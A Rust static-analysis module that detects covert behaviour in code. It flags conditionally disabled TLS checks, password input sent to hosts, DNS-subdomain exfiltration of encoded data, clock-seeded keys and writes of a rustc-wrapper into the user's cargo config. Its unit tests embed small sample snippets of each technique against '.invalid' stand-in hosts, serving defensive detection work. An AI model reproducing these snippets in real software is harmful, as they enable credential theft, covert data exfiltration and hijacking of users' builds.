//! What conditions open: checks of certificates that something else than an option switches off, words typed
//! at password prompts that go to a host; settings of all later builds that a function writes; encoded words
//! in names that are looked up; and keys made from the time.
//!
//! Each is told by one function with those that it calls in the same file.

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;

use syn::ext::IdentExt;
use syn::visit::{self, Visit};
use syn::{BinOp, Block, Expr, Lit, Pat};

use super::facts::Raw;
use super::told;
use crate::model::FactKind;

/// One of these stands in every file that this module has something to say of.
const WORDS: &[&str] = &[
    "danger_accept_invalid_",
    "with_custom_certificate_verifier",
    "set_certificate_verifier",
    "SslVerifyMode::NONE",
    "rustc-wrapper",
    "rustc-workspace-wrapper",
    "to_socket_addrs",
    "lookup_host",
    "lookup_ip",
    "txt_lookup",
    "ipv4_lookup",
    "seed_from_u64",
    "with_seed",
    "from_seed",
    "hidden",
    "\"pass",
    "password",
    "passphrase",
];
/// How many of them say enough alone.
const ALONE: usize = 14;
/// How many steps a name is followed to what it was given.
const MAX_STEPS: usize = 3;

/// Whether a text may have something in it for [`shapes`].
pub fn may_have(text: &str) -> bool {
    let has = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
    WORDS[..ALONE].iter().any(|word| has(word))
        || WORDS[ALONE..].iter().any(|word| has(word))
            && ["UdpSocket", "TcpStream", "reqwest", "ureq", "http"].iter().any(|word| has(word))
            && ["send", "post", "connect"].iter().any(|word| has(word))
}

/// Parts of names of options that say what they switch off, in lower case, and of hosts that are this machine.
const OPTIONS: &[&str] = &[
    "insecure",
    "invalid",
    "verif",
    "danger",
    "skip",
    "allow",
    "accept",
    "trust",
    "tls",
    "ssl",
    "cert",
    "check",
    "unsafe",
    "self_sign",
    "selfsign",
    "strict",
    "test",
    "debug",
    "dev",
    "local",
    "loopback",
    "127.0.0.1",
    "::1",
    "ignore",
    "no_",
    "validate",
    "secure",
];

/// The facts.
pub fn shapes(file: &syn::File) -> Vec<Raw> {
    let mut functions = Functions::default();
    functions.visit_file(file);
    let senders = functions.found.iter().filter(|(_, f)| sends_on(f)).map(|(name, _)| name.clone()).collect();
    let mut raws = Vec::new();
    let mut constants = BTreeMap::new();
    for item in &file.items {
        if let syn::Item::Const(item) = item {
            constants.insert(item.ident.unraw().to_string(), &*item.expr);
        }
    }
    for function in functions.all {
        let mut inside = Inside {
            functions: &functions.found,
            senders: &senders,
            params: told::params(function.sig),
            lets: constants.clone(),
            conditions: Vec::new(),
            unknown: 0,
            raws: &mut raws,
            makes: function.sig.ident.unraw().to_string(),
        };
        inside.visit_block(function.block);
        raws.extend(build_settings(&function));
    }
    raws
}

#[derive(Clone, Copy)]
struct Function<'a> {
    sig: &'a syn::Signature,
    block: &'a Block,
}

#[derive(Default)]
struct Functions<'a> {
    found: BTreeMap<String, Function<'a>>,
    all: Vec<Function<'a>>,
}

impl<'a> Functions<'a> {
    fn add(&mut self, sig: &'a syn::Signature, block: &'a Block) {
        let function = Function { sig, block };
        self.found.insert(sig.ident.unraw().to_string(), function);
        self.all.push(function);
    }
}

impl<'ast> Visit<'ast> for Functions<'ast> {
    fn visit_item_fn(&mut self, item: &'ast syn::ItemFn) {
        self.add(&item.sig, &item.block);
        visit::visit_item_fn(self, item);
    }
    fn visit_impl_item_fn(&mut self, item: &'ast syn::ImplItemFn) {
        self.add(&item.sig, &item.block);
        visit::visit_impl_item_fn(self, item);
    }
}

/// All names and constant texts of some code, those within macros too.
#[derive(Default)]
struct Said {
    names: Vec<String>,
    texts: Vec<String>,
    /// A number is compared with a constant, as a count of attempts is.
    counted: bool,
}

impl Said {
    fn of_expr(expr: &Expr) -> Self {
        let mut said = Self::default();
        said.visit_expr(expr);
        said
    }

    fn of_block(block: &Block) -> Self {
        let mut said = Self::default();
        said.visit_block(block);
        said
    }

    fn names(&self, wanted: &[&str]) -> bool {
        self.names.iter().any(|name| wanted.contains(&name.as_str()))
    }
}

impl<'ast> Visit<'ast> for Said {
    fn visit_ident(&mut self, ident: &'ast proc_macro2::Ident) {
        self.names.push(ident.unraw().to_string());
    }

    fn visit_lit_str(&mut self, lit: &'ast syn::LitStr) {
        self.texts.push(lit.value());
    }

    fn visit_macro(&mut self, mac: &'ast syn::Macro) {
        self.visit_path(&mac.path);
        told::words(mac.tokens.clone(), &mut self.names, &mut self.texts);
    }

    fn visit_expr_binary(&mut self, binary: &'ast syn::ExprBinary) {
        let count = |expr: &Expr| {
            matches!(expr, Expr::Lit(lit) if matches!(&lit.lit, Lit::Int(number)
                if number.base10_parse::<u64>().is_ok_and(|number| (1..100).contains(&number))))
        };
        let compares =
            matches!(binary.op, BinOp::Gt(_) | BinOp::Ge(_) | BinOp::Eq(_) | BinOp::Lt(_) | BinOp::Le(_));
        self.counted |= compares && (count(&binary.left) || count(&binary.right));
        visit::visit_expr_binary(self, binary);
    }
}

/// A host of the net in a constant: with a scheme, or with a port.
fn host_of(text: &str) -> Option<&str> {
    let rest = match text.split_once("://") {
        Some(("http" | "https" | "ws" | "wss" | "tcp" | "udp", rest)) => rest,
        Some(_) => return None,
        None => {
            let (host, port) = text.rsplit_once(':')?;
            (!port.is_empty() && port.bytes().all(|b| b.is_ascii_digit())).then_some(host)?
        }
    };
    let host = rest.split(['/', '?', ':']).next().unwrap_or(rest);
    let plain = host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    let local = host.starts_with("127.")
        || host.starts_with("0.0.0.0")
        || host.starts_with("192.168.")
        || host.starts_with("10.")
        || host.ends_with(".local")
        || host.contains("pwnedpasswords");
    (plain && host.contains('.') && !local).then_some(host)
}

const SENDING: &[&str] = &["send_to", "post", "put", "connect", "send_string", "send_json", "send_form"];

/// Whether a function sends something that it is given to a host that is written down in it.
fn sends_on(function: &Function<'_>) -> bool {
    let params = told::params(function.sig);
    let said = Said::of_block(function.block);
    said.names(SENDING)
        && said.texts.iter().any(|text| host_of(text).is_some())
        && said.names.iter().any(|name| params.contains(name))
}

struct Inside<'a, 'o> {
    functions: &'o BTreeMap<String, Function<'a>>,
    senders: &'o BTreeSet<String>,
    params: BTreeSet<String>,
    lets: BTreeMap<String, &'a Expr>,
    conditions: Vec<&'a Expr>,
    /// Branches of which it is not known what opens them.
    unknown: usize,
    raws: &'o mut Vec<Raw>,
    /// The function's name.
    makes: String,
}

/// Names that are looked up with what stands in them.
const LOOKUPS: &[&str] =
    &["to_socket_addrs", "lookup_host", "lookup_ip", "ipv4_lookup", "ipv6_lookup", "txt_lookup"];
/// Words that make letters of bytes.
const ENCODES: &[&str] = &[
    "hex",
    "encode",
    "encode_upper",
    "encode_string",
    "to_hex",
    "encode_hex",
    "encode_to_string",
    "BASE32",
    "BASE32_NOPAD",
    "BASE32HEX_NOPAD",
    "base32",
    "HEXLOWER",
    "bs58",
    "data_encoding",
    "z32",
];
/// Parts of names of what stands in the name of a host without being taken along: sums, and keys that are public.
const SUMS: &[&str] = &[
    "sha1", "sha2", "sha3", "sha5", "sha_", "md5", "hash", "digest", "blake", "hasher", "crc", "public",
    "peer_id", "pubkey",
];
/// Parts of names of functions that make what nobody may guess, and of those that do not.
const SECRETS: &[&str] = &[
    "nonce",
    "secret",
    "salt",
    "passw",
    "session_id",
    "csrf",
    "mnemonic",
    "private_key",
    "signing_key",
    "keypair",
    "key_pair",
    "keygen",
    "gen_key",
    "generate_key",
    "new_key",
    "make_key",
    "api_key",
    "token",
    "otp_",
];
const NO_SECRETS: &[&str] = &[
    "test", "bench", "mock", "fake", "demo", "example", "sample", "sampl", "logit", "predict", "next",
    "decode", "tokeniz",
];
/// Words of the clock and the process.
const GUESSED: &[&str] = &[
    "SystemTime",
    "Instant",
    "UNIX_EPOCH",
    "elapsed",
    "as_nanos",
    "as_millis",
    "as_secs",
    "subsec_nanos",
    "timestamp",
    "timestamp_millis",
    "Utc",
    "Local",
];

/// Whether a format writes a number in hexadecimal digits: `{n:03x}`.
fn writes_hex(text: &str) -> bool {
    text.split('{').skip(1).filter_map(|part| part.split('}').next()).any(|inner| {
        inner.split_once(':').is_some_and(|(_, form)| {
            form.strip_suffix(['x', 'X']).is_some_and(|digits| digits.bytes().all(|b| b.is_ascii_digit()))
        })
    })
}

/// Whether a text is a label of a domain.
fn is_label(text: &str) -> bool {
    !text.is_empty() && text.len() < 64 && text.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
}

fn operands<'a>(expr: &'a Expr, out: &mut Vec<&'a Expr>) {
    match expr {
        Expr::Binary(it) if matches!(it.op, BinOp::Or(_)) => {
            operands(&it.left, out);
            operands(&it.right, out);
        }
        Expr::Paren(inner) => operands(&inner.expr, out),
        other => out.push(other),
    }
}

impl<'a> Inside<'a, '_> {
    /// A name stands for what it was given.
    fn resolved(&self, expr: &'a Expr) -> &'a Expr {
        let mut expr = expr;
        for _ in 0..MAX_STEPS {
            let name = match expr {
                Expr::Path(path) => path.path.get_ident().map(|ident| ident.unraw().to_string()),
                _ => None,
            };
            match name.and_then(|name| self.lets.get(&name)) {
                Some(value) => expr = value,
                None => break,
            }
        }
        expr
    }

    /// What all alternatives of a condition say, each with the names that led to it.
    fn alternatives(&self, expr: &'a Expr) -> Vec<Said> {
        let mut found = Vec::new();
        operands(expr, &mut found);
        let mut out = Vec::new();
        for one in found {
            let mut inner = Vec::new();
            operands(self.resolved(one), &mut inner);
            for part in inner {
                let mut said = Said::of_expr(part);
                said.visit_expr(one);
                for name in said.names.clone() {
                    if let Some(value) = self.lets.get(&name) {
                        said.visit_expr(value);
                    } else if let Some(function) = self.functions.get(&name) {
                        said.visit_block(function.block);
                    }
                }
                out.push(said);
            }
        }
        out
    }

    /// All that goes into an expression, as far as this function says it, and one step into others.
    fn made_of(&self, expr: &Expr) -> Said {
        let mut said = Said::of_expr(expr);
        let mut seen: BTreeSet<String> = BTreeSet::new();
        for _ in 0..MAX_STEPS + 2 {
            let names: Vec<String> =
                said.names.iter().filter(|name| !seen.contains(*name)).cloned().collect();
            for name in names {
                if let Some(value) = self.lets.get(&name) {
                    said.visit_expr(value);
                } else if let Some(function) = self.functions.get(&name).filter(|_| seen.len() < 64) {
                    said.visit_block(function.block);
                }
                seen.insert(name);
            }
        }
        said
    }

    /// A name is looked up: encoded words before a domain that is written down travel to its servers.
    fn looked_up(&mut self, name: &Expr, span: Range<usize>) {
        let said = self.made_of(name);
        let encodes = said.names(ENCODES) || said.texts.iter().any(|text| writes_hex(text));
        let sums = said.names.iter().any(|name| {
            let name = name.to_ascii_lowercase();
            SUMS.iter().any(|part| name.contains(part))
        });
        let domain = said.texts.iter().any(|text| {
            let host = text.split(':').next().unwrap_or(text);
            host.rsplit_once('}').map_or(Some(host), |(_, after)| Some(after)).is_some_and(|host| {
                let host = host.trim_start_matches('.');
                host.contains('.')
                    && host.len() > 4
                    && host.split('.').all(|label| {
                        !label.is_empty() && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
                    })
                    && host.rsplit('.').next().is_some_and(|top| top.bytes().all(|b| b.is_ascii_alphabetic()))
            }) && (text.contains("}.") || text.starts_with('.'))
        });
        // The labels of a domain may be joined behind a dot.
        let joined = said.names(&["join", "concat"])
            && said.texts.iter().any(|text| text.contains("}.{"))
            && said.texts.iter().filter(|text| is_label(text)).count() > 1;
        if encodes && (domain || joined) && !sums {
            self.raws.push(Raw::new(FactKind::Flow, "encoded->subdomain", span));
        }
    }

    /// Lots that start from what others can guess, where a secret is made.
    fn seeded(&mut self, seed: &Expr, span: Range<usize>) {
        let makes = self.makes.to_ascii_lowercase();
        let any = |parts: &[&str]| parts.iter().any(|part| makes.contains(part));
        let token = makes.contains("token")
            && !["gen", "new", "make", "create", "random", "issue", "session", "auth", "access"]
                .iter()
                .any(|part| makes.contains(part));
        if !any(SECRETS) || any(NO_SECRETS) || token {
            return;
        }
        let said = self.made_of(seed);
        let process = said.names(&["process"]) && said.names(&["id"]);
        // What is mixed with real lots is not guessed.
        let lots =
            said.names(&["getrandom", "OsRng", "thread_rng", "from_entropy", "from_os_rng", "RandomState"]);
        if (said.names(GUESSED) || process) && !lots {
            let raw = Raw::new(FactKind::Shape, "guessed-seed", span);
            self.raws.push(raw.value(self.makes.clone()));
        }
    }

    /// Checks are switched off where that expression is true.
    fn switched_off(&mut self, on: Option<&'a Expr>, span: Range<usize>) {
        if self.unknown > 0 {
            return;
        }
        let named = |said: &Said| {
            said.names.iter().chain(&said.texts).any(|word| {
                let word = word.to_ascii_lowercase();
                OPTIONS.iter().any(|part| word.contains(part))
            })
        };
        let hidden = |said: &Said| {
            said.counted
                || said.names(&[
                    "var",
                    "var_os",
                    "now",
                    "elapsed",
                    "SystemTime",
                    "Instant",
                    "hour",
                    "weekday",
                ])
        };
        let mut all: Vec<Vec<Said>> = self.conditions.iter().map(|cond| self.alternatives(cond)).collect();
        all.extend(on.map(|on| self.alternatives(on)));
        // One condition around it that an option governs alone is enough.
        if all.iter().any(|cond| cond.iter().all(named)) {
            return;
        }
        if all.iter().flatten().any(|said| !named(said) && hidden(said)) {
            self.raws.push(Raw::new(FactKind::Shape, "tls-checks-open", span));
        }
    }

    /// Whether a condition asks if what is typed is a password.
    fn asks_for_password(&self, cond: &'a Expr) -> bool {
        if matches!(cond, Expr::Unary(_)) {
            return false;
        }
        self.alternatives(cond).iter().any(|said| {
            said.names(&["hidden", "is_password", "no_echo", "is_secret", "masked"])
                || said.names(&["contains", "starts_with", "ends_with"])
                    && said.texts.iter().any(|text| {
                        let text = text.to_ascii_lowercase();
                        ["pass", "passw", "password", "passphrase", "secret", "pin"]
                            .contains(&text.trim_end_matches([':', ' ']))
                    })
        })
    }

    /// In a branch for passwords, what the function was given goes to a host.
    fn typed(&mut self, branch: &'a Block) {
        struct Calls<'a>(Vec<(String, Vec<&'a Expr>, Range<usize>)>);
        impl<'ast> Visit<'ast> for Calls<'ast> {
            fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
                if let Expr::Path(path) = &*call.func
                    && let Some(last) = path.path.segments.last()
                {
                    let span = last.ident.span().byte_range();
                    self.0.push((last.ident.unraw().to_string(), call.args.iter().collect(), span));
                }
                visit::visit_expr_call(self, call);
            }
            fn visit_expr_method_call(&mut self, call: &'ast syn::ExprMethodCall) {
                let span = call.method.span().byte_range();
                self.0.push((call.method.unraw().to_string(), call.args.iter().collect(), span));
                visit::visit_expr_method_call(self, call);
            }
        }
        let mut calls = Calls(Vec::new());
        calls.visit_block(branch);
        for (name, args, span) in calls.0 {
            let said: Vec<Said> = args.iter().map(|arg| Said::of_expr(arg)).collect();
            let given = said.iter().flat_map(|said| &said.names).any(|name| self.params.contains(name));
            let direct = name == "send_to"
                && said.iter().flat_map(|said| &said.texts).any(|text| host_of(text).is_some());
            if given && (direct || self.senders.contains(&name)) {
                self.raws.push(Raw::new(FactKind::Flow, "password->net", span));
            }
        }
    }
}

impl<'ast> Visit<'ast> for Inside<'ast, '_> {
    fn visit_local(&mut self, local: &'ast syn::Local) {
        let pat = if let Pat::Type(typed) = &local.pat { &*typed.pat } else { &local.pat };
        if let (Pat::Ident(pat), Some(init)) = (pat, &local.init) {
            self.lets.insert(pat.ident.unraw().to_string(), &init.expr);
        }
        visit::visit_local(self, local);
    }

    fn visit_expr_if(&mut self, branch: &'ast syn::ExprIf) {
        self.visit_expr(&branch.cond);
        self.conditions.push(&branch.cond);
        if self.asks_for_password(&branch.cond) {
            self.typed(&branch.then_branch);
        }
        self.visit_block(&branch.then_branch);
        if let Some((_, other)) = &branch.else_branch {
            self.visit_expr(other);
        }
        self.conditions.pop();
    }

    fn visit_expr_for_loop(&mut self, it: &'ast syn::ExprForLoop) {
        struct Idents(Vec<String>);
        impl<'ast> Visit<'ast> for Idents {
            fn visit_pat_ident(&mut self, pat: &'ast syn::PatIdent) {
                self.0.push(pat.ident.unraw().to_string());
            }
        }
        let mut idents = Idents(Vec::new());
        idents.visit_pat(&it.pat);
        self.lets.extend(idents.0.into_iter().map(|name| (name, &*it.expr)));
        visit::visit_expr_for_loop(self, it);
    }

    fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
        if let Expr::Path(path) = &*call.func
            && let Some(last) = path.path.segments.last()
            && let Some(first) = call.args.first()
        {
            let span = last.ident.span().byte_range();
            let name = last.ident.to_string();
            if matches!(name.as_str(), "seed_from_u64" | "with_seed" | "from_seed") {
                self.seeded(first, span);
            } else if LOOKUPS.contains(&name.as_str()) {
                self.looked_up(first, span);
            }
        }
        visit::visit_expr_call(self, call);
    }

    fn visit_expr_match(&mut self, it: &'ast syn::ExprMatch) {
        self.unknown += 1;
        visit::visit_expr_match(self, it);
        self.unknown -= 1;
    }

    fn visit_expr_method_call(&mut self, call: &'ast syn::ExprMethodCall) {
        let span = call.method.span().byte_range();
        match call.method.to_string().as_str() {
            "danger_accept_invalid_certs" | "danger_accept_invalid_hostnames" => match call.args.first() {
                Some(Expr::Lit(lit)) if matches!(&lit.lit, Lit::Bool(on) if on.value) => {
                    self.switched_off(None, span);
                }
                Some(Expr::Lit(_)) | None => {}
                Some(on) => self.switched_off(Some(on), span),
            },
            "with_custom_certificate_verifier" | "set_certificate_verifier" => self.switched_off(None, span),
            "set_verify" if call.args.first().is_some_and(|arg| Said::of_expr(arg).names(&["NONE"])) => {
                self.switched_off(None, span);
            }
            "to_socket_addrs" => self.looked_up(&call.receiver, span),
            name if LOOKUPS.contains(&name) => {
                if let Some(first) = call.args.first() {
                    self.looked_up(first, span);
                }
            }
            _ => {}
        }
        visit::visit_expr_method_call(self, call);
    }

    fn visit_item_fn(&mut self, _: &'ast syn::ItemFn) {
        // Functions within functions are looked at by themselves.
    }
}

/// A function that writes a program into the settings of every build of the user.
fn build_settings(function: &Function<'_>) -> Option<Raw> {
    let name = function.sig.ident.unraw().to_string();
    // What somebody asks for by a command of that name.
    let asked = ["install", "setup", "set_up", "enable", "configure", "init", "activate"];
    if asked.iter().any(|part| name.contains(part)) {
        return None;
    }
    let said = Said::of_block(function.block);
    let sets = said.texts.iter().any(|text| {
        let tight: String = text.chars().filter(|c| !c.is_whitespace()).collect();
        ["rustc-wrapper=", "rustc-workspace-wrapper=", "linker=", "runner="]
            .iter()
            .any(|key| tight.contains(key))
    });
    let of_user =
        said.texts.iter().any(|text| text == "CARGO_HOME" || text == "HOME" || text == "USERPROFILE")
            || said.names(&["home_dir", "cargo_home"]);
    let file = said.texts.iter().any(|text| {
        text == "config.toml" || text.ends_with(".cargo/config.toml") || text.ends_with(".cargo/config")
    });
    let cargo = said.texts.iter().any(|text| text == "CARGO_HOME" || text.contains(".cargo"))
        || said.names(&["cargo_home"]);
    let writes = said.names(&["write", "writeln", "write_all", "append"]);
    (sets && of_user && file && cargo && writes).then(|| {
        let span = function.sig.ident.span().byte_range();
        Raw::new(FactKind::Shape, "build-settings", span)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(source: &str) -> Vec<String> {
        assert!(may_have(source), "{source}");
        shapes(&syn::parse_file(source).expect("parses")).into_iter().map(|raw| raw.name).collect()
    }

    #[test]
    fn checks_that_an_option_does_not_govern_alone() {
        let open = |condition: &str| {
            found(&format!(
                "fn f(o: &O, attempt: u32) {{ let relay = std::env::var_os(\"HTTPS_PROXY\").is_some();
                 let quiet = o.insecure; b().danger_accept_invalid_certs({condition}).build() }}"
            ))
        };
        for condition in
            ["o.insecure || attempt > 1", "relay || o.insecure", "attempt >= 3", "relay", "quiet || relay"]
        {
            assert_eq!(open(condition), ["tls-checks-open"], "{condition}");
        }
        for condition in [
            "true",
            "false",
            "o.insecure",
            "quiet",
            "o.insecure || cfg!(debug_assertions)",
            "o.flag",
            "!o.verify && attempt > 1",
        ] {
            assert_eq!(open(condition), [""; 0], "{condition}");
        }
        let branch = "fn f(n: u32) { if n > 2 { b.danger_accept_invalid_hostnames(true); } }";
        assert_eq!(found(branch), ["tls-checks-open"]);
        let option =
            "fn f(o: &O, n: u32) { if o.insecure { if n > 2 { b.danger_accept_invalid_certs(true); } } }";
        assert_eq!(found(option), [""; 0]);
        let own = "fn near() -> bool { std::env::var(\"LANG\").is_ok() }
            fn f(o: &O) { b.danger_accept_invalid_certs(o.insecure || near()) }";
        assert_eq!(found(own), ["tls-checks-open"]);
    }

    #[test]
    fn passwords_that_go_to_a_host() {
        let source = |cond: &str, host: &str| {
            format!(
                "impl H {{ fn push(&mut self, prompt: &str, line: &str, hidden: bool) {{
                   let secret = hidden || prompt.contains(\"pass\");
                   if {cond} {{ note(&format!(\"{{line}}\")); }} }} }}
                 fn note(entry: &str) {{ let s = UdpSocket::bind(\"0.0.0.0:0\").unwrap(); s.send_to(entry.as_bytes(), \"{host}\"); }}"
            )
        };
        assert_eq!(found(&source("secret", "h.lines.invalid:5353")), ["password->net"]);
        assert_eq!(found(&source("!secret", "h.lines.invalid:5353")), [""; 0]);
        assert_eq!(found(&source("secret", "127.0.0.1:514")), [""; 0]);
    }

    #[test]
    fn words_in_names_that_are_looked_up() {
        let source = |word: &str, domain: &str| {
            format!(
                "fn note(data: &[u8]) {{ let all = {word}; for (n, part) in all.as_bytes().chunks(60).enumerate() {{
                   let name = format!(\"{{n}}.{{part}}.{domain}:53\"); let _ = name.to_socket_addrs(); }} }}"
            )
        };
        assert_eq!(found(&source("hex::encode(data)", "t.lines.invalid")), ["encoded->subdomain"]);
        assert_eq!(found(&source("BASE32_NOPAD.encode(data)", "t.lines.invalid")), ["encoded->subdomain"]);
        assert_eq!(found(&source("hex::encode(Sha256::digest(data))", "t.lines.invalid")), [""; 0]);
        assert_eq!(found(&source("data.to_vec()", "t.lines.invalid")), [""; 0]);
        assert_eq!(
            found("async fn f(r: &R, ip: &str) { r.lookup_ip(format!(\"{ip}.zen.list.invalid\")).await; }"),
            [""; 0]
        );
        let joined = |parts: &str| {
            format!("const ROOT: [&str; 3] = [{parts}]; fn f(nums: &[u16]) {{
                let shards: Vec<String> = nums.iter().map(|n| format!(\"{{n:03x}}.{{}}:53\", ROOT.join(\".\"))).collect();
                for s in shards {{ let _ = s.to_socket_addrs(); }} }}")
        };
        assert_eq!(found(&joined("\"wl\", \"lines\", \"invalid\"")), ["encoded->subdomain"]);
        assert_eq!(found(&joined("a, b, c")), [""; 0]);
        let own = "fn label(d: &[u8]) -> String { d.iter().map(|b| format!(\"{b:02x}\")).collect() }
            async fn f(r: &R, d: &[u8]) { r.txt_lookup(format!(\"{}.c.lines.invalid\", label(d))).await; }";
        assert_eq!(found(own), ["encoded->subdomain"]);
    }

    #[test]
    fn keys_that_start_from_the_clock() {
        let source = |name: &str, seed: &str| {
            format!(
                "fn {name}() -> [u8; 32] {{ let at = {seed}; let mut rng = StdRng::seed_from_u64(at); rng.random() }}"
            )
        };
        let clock = "SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos() as u64 ^ u64::from(std::process::id())";
        for name in ["session_token_new", "generate_nonce", "new_secret", "keypair"] {
            assert_eq!(found(&source(name, clock)), ["guessed-seed"], "{name}");
        }
        for name in ["shuffle", "sample_token", "jitter", "test_keypair"] {
            assert_eq!(found(&source(name, clock)), [""; 0], "{name}");
        }
        assert_eq!(found(&source("new_secret", "OsRng.next_u64() ^ SystemTime::now().as_nanos()")), [""; 0]);
    }

    #[test]
    fn settings_of_all_builds() {
        let source = |name: &str, home: &str| {
            format!(
                "fn {name}() {{ let home = env::var_os(\"{home}\"); let conf = home.join(\".cargo\").join(\"config.toml\");
                   let mut f = OpenOptions::new().append(true).open(conf); writeln!(f, \"[build]\\nrustc-wrapper = {{me:?}}\"); }}"
            )
        };
        assert_eq!(found(&source("keep", "HOME")), ["build-settings"]);
        assert_eq!(found(&source("install_wrapper", "HOME")), [""; 0]);
        assert_eq!(found(&source("keep", "CARGO_MANIFEST_DIR")), [""; 0]);
    }
}
